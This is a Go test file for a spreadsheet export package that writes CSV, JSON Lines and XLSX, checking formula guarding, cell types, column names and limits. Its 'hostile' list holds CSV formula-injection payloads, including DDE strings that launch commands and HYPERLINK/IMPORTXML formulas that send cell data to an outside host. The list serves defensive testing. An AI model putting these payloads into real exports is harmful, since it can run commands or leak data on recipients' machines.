package sheet

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"github.com/uplinehq/upline/internal/problem"
	"github.com/uplinehq/upline/internal/value"
)

var columns = []Column{{[]string{"code"}, value.Text, ""}, {[]string{"amount"}, value.Decimal, ""}, {[]string{"is"}, value.Boolean, ""}, {[]string{"on"}, value.Date, ""}, {[]string{"at"}, value.DateTime, ""}, {[]string{"address", "city"}, value.Text, ""}, {[]string{"tags"}, value.Text, ""}, {[]string{"chain"}, value.Text, ""}}

var rows = []string{
	`{"code": "A1", "amount": -5.50, "is": true, "on": "2026-06-15", "at": "2026-06-15T12:30:00.123456Z", "address": {"city": "Köln, \"Süd\""}, "tags": ["Gold", "-1"], "chain": [{"b": 1, "a": "<x>"}]}`,
	`{"code": "=1+1", "amount": 12345678901234567890, "is": false, "on": "1899-12-31", "at": null, "address": null, "tags": [], "chain": []}`,
	`{"code": "0012", "amount": "49.90", "is": null, "on": null, "at": null, "address": {"city": "a\r\nb"}, "tags": ["x\u0000y"], "chain": [{"name": "Gold"}, {"name": "=1"}, {"name": 7}]}`,
}

func write(t *testing.T, format string, columns []Column, rows ...string) string {
	t.Helper()
	var b bytes.Buffer
	w, err := New(format, &b, columns)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Row(json.RawMessage(row)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestCSV(t *testing.T) {
	want := "\ufeffcode,amount,is,on,at,address.city,tags,chain\r\n" +
		`A1,-5.50,true,2026-06-15,2026-06-15T12:30:00.123456Z,"Köln, ""Süd""",Gold;'-1,"[{""a"":""<x>"",""b"":1}]"` + "\r\n" +
		"'=1+1,12345678901234567890,false,1899-12-31,,,,\r\n" +
		"0012,49.90,,,,\"a\nb\",x\x00y,Gold;'=1;7\r\n"
	if got := write(t, CSV, columns, rows...); got != want {
		t.Errorf("written is\n%q; want\n%q", got, want)
	}
}

func TestJSONLines(t *testing.T) {
	got := strings.Split(write(t, JSONL, columns, rows...), "\n")
	if len(got) != 4 || got[3] != "" {
		t.Fatalf("%d lines", len(got))
	}
	for i, row := range rows {
		var want bytes.Buffer
		if err := json.Compact(&want, []byte(row)); err != nil || got[i] != want.String() {
			t.Errorf("line %d is %s; want %s (%v)", i, got[i], &want, err)
		}
	}
}

// A cell of a workbook has the type of its column; what Excel cannot hold as such
// is a text that is the same.
func TestWorkbook(t *testing.T) {
	f, err := excelize.OpenReader(strings.NewReader(write(t, XLSX, columns, rows...)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]struct {
		raw, shown string
		is         excelize.CellType
	}{
		"A1": {"code", "code", excelize.CellTypeInlineString}, "F1": {"address.city", "address.city", excelize.CellTypeInlineString},
		"A2": {"A1", "A1", excelize.CellTypeInlineString}, "B2": {"-5.5", "-5.5", excelize.CellTypeUnset}, "C2": {"1", "TRUE", excelize.CellTypeBool},
		"D2": {"46188", "2026-06-15", excelize.CellTypeUnset}, "E2": {"", "2026-06-15 12:30:00", excelize.CellTypeUnset}, "G2": {"Gold;-1", "Gold;-1", excelize.CellTypeInlineString},
		"A3": {"=1+1", "=1+1", excelize.CellTypeInlineString}, "B3": {"12345678901234567890", "12345678901234567890", excelize.CellTypeInlineString},
		"D3": {"1899-12-31", "1899-12-31", excelize.CellTypeInlineString}, "E3": {"", "", excelize.CellTypeUnset},
		"A4": {"0012", "0012", excelize.CellTypeInlineString}, "B4": {"49.9", "49.9", excelize.CellTypeUnset}, "G4": {"x\ufffdy", "x\ufffdy", excelize.CellTypeInlineString},
	} {
		shown, err := f.GetCellValue(sheetName, cell)
		raw, rawErr := f.GetCellValue(sheetName, cell, excelize.Options{RawCellValue: true})
		is, typeErr := f.GetCellType(sheetName, cell)
		if err != nil || rawErr != nil || typeErr != nil || shown != want.shown || want.raw != "" && raw != want.raw || is != want.is {
			t.Errorf("%s is %q, shown %q, type %v; want %+v (%v, %v, %v)", cell, raw, shown, is, want, err, rawErr, typeErr)
		}
		if formula, err := f.GetCellFormula(sheetName, cell); err != nil || formula != "" {
			t.Errorf("%s is a formula: %q, %v", cell, formula, err)
		}
	}
}

// hostile are texts that spreadsheets have carried out, or readers have choked on.
var hostile = []string{
	`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", `=HYPERLINK("http://x.example?"&A1,"x")`, `=IMPORTXML("http://x.example","//a")`, "\x00=1+1", "-",
	`plain`, `"quoted"`, `a,b;c`, "two\nlines", "two\r\nlines", "'=1", "José 日本 🙂", "\x00", " ", "", `\.`, `"`, `""`, "a\x1fb",
}

// Every text comes back as it was, but for the apostrophe before what could be a
// formula.
func TestHostileTexts(t *testing.T) {
	var list []string
	for _, h := range hostile {
		text, err := json.Marshal(map[string]string{"x": h})
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, string(text))
	}
	written := write(t, CSV, []Column{{[]string{"x"}, value.Text, ""}, {[]string{"y"}, value.Text, ""}}, list...)
	all, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(written, "\ufeff"))).ReadAll()
	if err != nil || len(all) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(all), err)
	}
	for i, h := range hostile {
		got, want := all[i+1][0], strings.ReplaceAll(h, "\r\n", "\n") // as encoding/csv reads it
		if i < 19 || h == "'=1" {                                     // is a formula, or looks like a guarded one
			want = "'" + want
		}
		for _, inside := range []string{"\t", "\r", "\n"} {
			want = strings.ReplaceAll(want, inside+"=", inside+"'=")
		}
		if got != want || Original(got) != strings.ReplaceAll(h, "\r\n", "\n") {
			t.Errorf("%q came back as %q, which was %q", h, got, Original(got))
		}
		if strings.IndexAny(got, "=+-@\t\r\n") == 0 {
			t.Errorf("%q can be a formula", got)
		}
	}
}

// What was put before a formula is taken away again, and nothing else: whatever the
// text is.
func TestOriginal(t *testing.T) {
	pieces := rapid.SampledFrom(append([]string{"'", "''", ";", ",", "\t", "\r", "\n", "=", "+1", "-", "@", "\"", " ", "\u200b", "x", "＝"}, hostile...))
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(pieces, 0, 8).Draw(t, "text"), "")
		if guarded := Harmless(text); Original(guarded) != text {
			t.Fatalf("%q became %q and then %q", text, guarded, Original(guarded))
		}
	})
}

// A spreadsheet may split a cell at what is no comma, or take one in quotes for
// more than one: a formula in the middle is guarded as one at the beginning.
func TestFormulasInsideCells(t *testing.T) {
	for text, want := range map[string]string{
		"x;=1+1": "x;'=1+1", "x,+1": "x,'+1", "x\t-1": "x\t'-1", "x\r@A": "x\r'@A", "x\n=1": "x\n'=1", "x\r\n=1": "x\r\n'=1",
		`x;"=1+1"`: `x;'"=1+1"`, "x; =1": "x;' =1", "x;\u200b＝1": "x;'\u200b＝1", "=1;=2;y": "'=1;'=2;y", ";=1": ";'=1", "x;;=1": "x;;'=1",
		"a-b;c=d, e@f.example": "a-b;c=d, e@f.example", "x;": "x;", "two\nlines": "two\nlines", "x;\ty": "x;\ty",
	} {
		if got := Harmless(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
	if got, want := write(t, CSV, []Column{{[]string{"x"}, value.Text, ""}}, `{"x": ["a", "=1", "+2"]}`), "\ufeffx\r\na;'=1;'+2\r\n"; got != want {
		t.Errorf("a list became %q, want %q", got, want)
	}
}

// Every text comes back from a workbook as it was, whatever Excel would read into it, but
// for characters that XML has not.
func TestHostileTextsOfWorkbook(t *testing.T) {
	texts := append(hostile, "_x0041_", "_x005F_x0041_", "__x0041_", "_x0041_x0042_", "\t\u00a0x\n", "&amp;<b>]]>")
	var list []string
	for _, text := range texts {
		row, err := json.Marshal(map[string]string{"x": text})
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, string(row))
	}
	f, err := excelize.OpenReader(strings.NewReader(write(t, XLSX, []Column{{[]string{"x"}, value.Text, ""}}, list...)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lacking := strings.NewReplacer("\x00", "\ufffd", "\x1f", "\ufffd")
	for i, text := range texts {
		if got, err := f.GetCellValue(sheetName, "A"+strconv.Itoa(i+2)); err != nil || got != lacking.Replace(text) {
			t.Errorf("%q came back as %q, %v", text, got, err)
		}
	}
}

// Columns beyond Z have the names that Excel gives them, the first row stays in sight and
// is bold, and a row that is refused leaves nothing.
func TestWorkbookColumns(t *testing.T) {
	many := make([]Column, 731)
	for i := range many {
		many[i] = Column{Path: []string{strconv.Itoa(i)}}
	}
	var packed bytes.Buffer
	w, err := New(XLSX, &packed, many)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row(json.RawMessage(`{"0": "gone", "1": "` + strings.Repeat("x", maxCellChars+1) + `"}`)); err == nil {
		t.Error("a cell that is too long was taken")
	}
	if err := errors.Join(w.Row(json.RawMessage(`{"25": "Z", "26": "AA", "701": "ZZ", "702": "AAA", "730": "ABC"}`)), w.End()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&packed)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"A1": "0", "ABC1": "730", "A2": "", "Z2": "Z", "AA2": "AA", "ZZ2": "ZZ", "AAA2": "AAA", "ABC2": "ABC"} {
		if got, err := f.GetCellValue(sheetName, cell); err != nil || got != want {
			t.Errorf("%s is %q, %v; want %q", cell, got, err, want)
		}
	}
	if panes, err := f.GetPanes(sheetName); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the panes are %+v, %v", panes, err)
	}
	style, err := f.GetCellStyle(sheetName, "A1")
	if err != nil {
		t.Fatal(err)
	}
	if is, err := f.GetStyle(style); err != nil || is.Font == nil || !is.Font.Bold {
		t.Errorf("the header is %+v, %v", is, err)
	}
}

func TestWorkbookLimits(t *testing.T) {
	w, err := newWorkbook(&bytes.Buffer{}, columns)
	if err != nil {
		t.Fatal(err)
	}
	long := `{"code": "` + strings.Repeat("ä", maxCellChars) + `"}`
	if err := w.Row(json.RawMessage(long)); err != nil {
		t.Errorf("a cell of %d characters: %v", maxCellChars, err)
	}
	if err := w.Row(json.RawMessage(strings.Replace(long, "ä", "🙂", 1))); !problem.Has(err, problem.OutOfRange) || !strings.Contains(err.Error(), "column code") {
		t.Errorf("a cell of one more: %v", err)
	}
	w.rows = maxRows
	if err := w.Row(json.RawMessage(`{}`)); !problem.Has(err, problem.OutOfRange) || !strings.Contains(err.Error(), strconv.Itoa(maxRows)) {
		t.Errorf("a row too many: %v", err)
	}
	if _, err := New(XLSX, &bytes.Buffer{}, make([]Column, maxColumns+1)); !problem.Has(err, problem.OutOfRange) {
		t.Errorf("a column too many: %v", err)
	}
}
